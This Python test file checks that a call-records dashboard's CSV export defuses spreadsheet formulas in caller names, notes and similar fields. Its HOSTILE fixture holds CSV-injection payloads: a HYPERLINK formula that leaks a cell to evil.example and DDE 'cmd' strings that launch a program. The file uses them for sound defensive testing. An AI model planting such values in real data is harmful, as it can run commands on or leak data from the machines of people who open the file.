"""What leaves the dashboard as a file (CSV, recordings, voicemail, PCAPs): cells a spreadsheet
would run are neutralised, every delivery is audited, and the headers keep it private."""

from __future__ import annotations

import csv
import io

import pytest
import requests
from django.utils import timezone

# Cells an attacker who can name a contact or write a note controls, in the upstream's CSV.
HOSTILE = {
    "src_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "dst_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "clid": "+1+cmd|' /C calc'!A0",
    "t_cause": "-2+3",
    # A newline inside a quoted cell: the formula-looking second line is not a cell start.
    "info": 'first line, "quoted"\n=not a cell start',
    "disposition": "\t=tab first",
}


@pytest.fixture
def hostile_call(sandbox_demo):
    """A call of the demo agent whose text fields start like spreadsheet formulas."""
    from sandbox.models import Cdr

    agent = sandbox_demo.agent
    return Cdr.objects.create(
        customer_id=agent.customer_id,
        user_id=agent.user_id,
        calldate=timezone.now(),
        type="I",
        live_id=987654,
        src="+442071234567",
        dst="1001",
        **HOSTILE,
    )


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_it_neutralises_formulas_in_a_users_csv(
    supervisor_client, sandbox_url, sandbox_demo, hostile_call
):
    response = supervisor_client.get(f"/calls/users/{sandbox_demo.agent.user_id}.csv")

    assert response.status_code == 200
    header, *rows = _csv_rows(response)
    row = next(row for row in rows if row[header.index("id")] == str(hostile_call.pk))
    cell = dict(zip(header, row, strict=True))
    for name, text in HOSTILE.items():
        if name == "info":
            assert cell[name] == text  # one cell, newline and all, starting harmlessly
        else:
            assert cell[name] == "'" + text, name
    assert cell["src"] == "+442071234567"  # a phone number stays a phone number
    # Every row came through, and whole: the same rows as the upstream's own file.
    upstream = requests.get(
        f"{sandbox_url}/users/{sandbox_demo.agent.user_id}/cdrs.csv",
        headers={"X-Auth-Token": sandbox_demo.supervisor.api_key},
        timeout=10,
    )
    assert len(rows) == len(list(csv.reader(io.StringIO(upstream.text)))) - 1
